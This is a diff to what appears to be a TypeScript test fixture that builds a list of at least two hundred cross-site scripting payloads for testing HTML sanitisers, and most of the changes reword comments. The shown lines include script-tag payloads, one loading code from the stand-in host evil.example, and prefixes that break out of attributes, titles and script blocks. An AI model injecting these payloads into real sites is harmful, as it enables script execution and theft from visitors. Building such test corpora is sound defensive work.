@@ -1,10 +1,7 @@
-// Which texts have run as code in other people's pages? Two hundred of them, from every way a page
-// can be made to run one.
+// Which texts have run as code in other sites' pages? At least two hundred, from every known
+// technique.
 
-/**
- * Every payload calls `ran()` or loads from evil.example, so that a page can tell whether one got
- * through.
- */
+/** Every payload calls `ran()` or loads from evil.example, so that a page can detect success. */
 const scripts = [
   "<script>ran()</script>",
   "<script src=//evil.example/x.js></script>",
@@ -135,12 +132,12 @@ const breakers = [
 ];
 
 const plain = [...scripts, ...handlers, ...frames, ...links, ...styles, ...breakers];
-/** The same, out of places where a careless template would have put the text. */
+/** The same payloads behind characters that end an attribute, a title or a script. */
 const inside = [...scripts, ...handlers, ...frames, ...links].map(
   (payload) => `"'></title></script>${payload}`,
 );
 const dressed = plain.filter((payload) => payload.startsWith("<img") || payload.startsWith("<svg"));
 const nested = dressed.map((payload) => `<b>bold ${payload}</b><!-- ${payload} -->`);
 
-/** All different; at least two hundred. */
+/** No duplicates; at least two hundred. */
 export const hostileHtml: string[] = [...new Set([...plain, ...inside, ...nested])];
